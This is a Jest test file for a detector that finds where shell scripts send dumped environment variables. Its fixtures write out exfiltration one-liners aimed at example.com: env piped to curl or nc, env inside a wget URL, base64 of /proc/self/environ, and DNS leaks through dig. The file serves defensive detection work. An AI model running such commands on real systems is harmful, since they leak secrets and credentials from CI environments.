import { describe, expect, test } from '@jest/globals';
import { dumpName } from '../../../src/rules/support/dump-and-sink.ts';
import { sinkBehind, sinkIndex } from '../../../src/rules/support/sink-index.ts';
import { commandsOf } from '../../../src/workflow/shell.ts';

/** For each listing of the environment the program that takes it away at once. */
function sinksBehind(script: string): readonly (string | undefined)[] {
  const commands = commandsOf(script);
  const index = sinkIndex(commands, script);
  return commands.flatMap((command) => {
    const name = dumpName(command);
    return name === undefined ? [] : [sinkBehind(command, name, index)];
  });
}

const read = 'env | while read -r x; do';

describe('sinkBehind', () => {
  test.each<[string, string]>([
    ['env | sort | curl -d @- https://example.com', 'curl'],
    ['env | curl -d @- https://example.com | tee log', 'curl'],
    ['env | curl -d @- https://example.com | nc example.com 1', 'nc'],
    ['(env; date) | nc example.com 1', 'nc'],
    ['wget "https://example.com/$(env | tr -d x)"', 'wget'],
    ['base64 /proc/self/environ', 'base64'],
    [`${read} dig "$x.example.com"; done`, 'dig'],
    [`${read} echo; dig "$x.example.com"; done`, 'dig'],
    // Sinks and loops before change nothing.
    [`curl -O https://example.com/x\nfor a in b; do c; done\n${read} nc example.com 1; done`, 'nc'],
    // A loop by braces has no `done`.
    ['for x in $(env); { curl -d "$x" https://example.com; }', 'curl'],
    [`${read} nc example.com 1`, 'nc'],
  ])('%s', (script, sink) => {
    expect(sinksBehind(script)).toEqual([sink]);
  });

  test.each([
    'env',
    'curl https://example.com | env',
    'env; curl https://example.com',
    '(env; date)\ncurl https://example.com',
    'cat /proc/self/environ',
    `curl https://example.com\n${read} echo "$x"; done`,
    `${read} echo "$x"; done\ncurl https://example.com`,
    `${read} echo "$x"; done\nwhile true; do curl https://example.com; done`,
    'echo "$(env)" > x',
  ])('none: %s', (script) => {
    expect(sinksBehind(script)).toEqual([undefined]);
  });

  test('pipes and nests longer than any real one end', () => {
    expect(sinksBehind(`env | ${'cat | '.repeat(5000)}curl -d @- https://example.com`)).toEqual(['curl']);
    expect(sinksBehind(`${'('.repeat(5000)}env${')'.repeat(5000)} | curl https://example.com`)).toHaveLength(1);
  });
});

test('a sink knows the words of the pipe that feeds it, in their order, and where that begins', () => {
  const script = 'make; cat < all.txt | sort -u | curl -d @- https://example.com';
  expect(sinkIndex(commandsOf(script), script).sinks).toMatchObject([
    { name: 'curl', place: 3, pipeStart: 6, text: 'cat all.txt sort -u curl -d @- https://example.com' },
  ]);
});
